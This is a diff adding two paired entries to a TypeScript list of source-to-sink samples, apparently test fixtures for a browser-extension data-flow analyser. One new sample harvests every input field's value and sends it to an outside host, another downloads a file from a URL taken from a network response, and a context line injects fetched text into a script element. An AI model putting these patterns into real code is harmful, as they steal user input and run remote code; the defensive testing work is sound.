@@ -287,6 +287,18 @@ const sinks: readonly Twin[] = [
     "window.open('https://a.dev/?q=' + getSelection())",
   ],
   [
+    'fields that are gathered, not what is searched for',
+    'form-input > network',
+    "const all = []; for (const i of document.querySelectorAll('input')) all.push({ v: i.value }); open('https://in.a.dev/' + JSON.stringify(all))",
+    "open('https://a.dev/?q=' + document.querySelector('#search').value)",
+  ],
+  [
+    'files that are chosen, not those that are made',
+    'network-response > download',
+    "fetch('https://a.dev').then((r) => r.json()).then((j) => chrome.downloads.download({ url: j.url }))",
+    "fetch('https://a.dev').then((r) => r.blob()).then((b) => chrome.downloads.download({ url: URL.createObjectURL(b) }))",
+  ],
+  [
     'text of script elements',
     'network-response > script-injection',
     "fetch('https://a.dev').then((r) => r.text()).then((t) => { const s = document.createElement('script'); s.appendChild(document.createTextNode(t)) })",
